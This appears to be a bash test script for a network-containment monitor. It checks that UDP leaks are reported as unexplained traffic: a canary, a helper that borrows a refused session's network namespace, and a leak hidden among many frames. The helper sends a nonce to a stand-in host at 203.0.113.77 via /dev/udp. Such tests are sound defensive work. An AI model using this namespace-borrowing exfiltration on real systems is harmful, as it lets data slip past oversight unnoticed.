#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# What gets out dressed up as the instrument's own, by a helper's hand when all seems over, or behind
# a crowd: nothing of it can be read, and none of it lets anybody be contained.
# shellcheck disable=SC2317 # functions that are called by name
set -u
. "$(dirname "$0")/lib.sh"
need ip perl

make_target closed

# ---- as one of the instrument's own canaries, which its neighbour overheard ----

for way in whole longer; do
	rm -rf "$tmp/targets/state/heard" "$tmp/targets/state/canary"
	mkfifo "$tmp/targets/state/canary"
	hold_again
	make_way wears-canary $way
	begin_sentinel "canary-$way" -p udp-send -t "$(target closed)" -t "$(target wears-canary-$way)"
	wait_held
	nsenter --net="$(lane_of_held box0)" "$tmp/targets/overhears" "$tmp/targets/state/canary" \
		>"$tmp/ready" &
	background+=($!)
	wait_until "somebody listens in the box" test -s "$tmp/ready"
	rm "$tmp/ready"
	release_held
	finish_sentinel "canary-$way"
	run_is "canary-$way" valid
	is "canary-$way: the exit code" "$code" 3
	is "canary-$way: worn, in on2" "$(grep -cx $way "$tmp/targets/state/wears-canary")" 1
	cell_is "canary-$way" closed udp-send contained
	cell_is "canary-$way" wears-canary-$way udp-send inconclusive unexplained-traffic
	replays "canary-$way"
done

# ---- by a helper, once the session was refused and is over ----

# Takes the network of who asks, lets it go on, and sends a while later.
help_late() {
	local pid nonce

	while read -r pid nonce <"$tmp/targets/state/ask"; do
		exec 3<"/proc/$pid/ns/net"
		echo agreed >"$tmp/targets/state/agreed"
		sleep 0.4
		nsenter --net=/proc/self/fd/3 bash -c \
			"printf '%s' '$(rev <<<"$nonce")' >/dev/udp/203.0.113.77/9001" &&
			echo sent >>"$tmp/targets/state/help"
	done
}

mkfifo -m 666 "$tmp/targets/state/ask" "$tmp/targets/state/agreed"
make_target asks-helper
help_late &
background+=($!)
run_sentinel helper -p udp-send -t "$(target closed)" -t "$(target asks-helper)"
run_is helper valid
is "helper: the exit code" "$code" 3
holds "helper: it sent" test "$(said help)" -ge 1
cell_is helper closed udp-send contained
cell_is helper asks-helper udp-send inconclusive unexplained-traffic
replays helper

# ---- behind so many frames that it is not among those that are kept ----

# What a lane's crowd hides it hides from all of the lane: its calibrators' trials too.
hold_again
make_target waits-for-test
make_way leaks xored
begin_sentinel crowd -p udp-send --lanes 1 -t "$(target waits-for-test)" -t "$(target leaks-xored)"
wait_held
send_crowd "$(lane_of_held bnd0)" 4200
is "crowd: it was sent" "$?" 0
release_held
finish_sentinel crowd
is "crowd: what hides in it, in on and on2" "$(grep -cx xored "$tmp/targets/state/leaks")" 2
is "crowd: the exit code" "$code" 3
is "crowd: lost" "$(verdict_of crowd .observer.lost.ring)" 0
cell_is crowd waits-for-test udp-send inconclusive unexplained-traffic
cell_is crowd leaks-xored udp-send inconclusive unexplained-traffic
none_contained crowd
replays crowd
finish
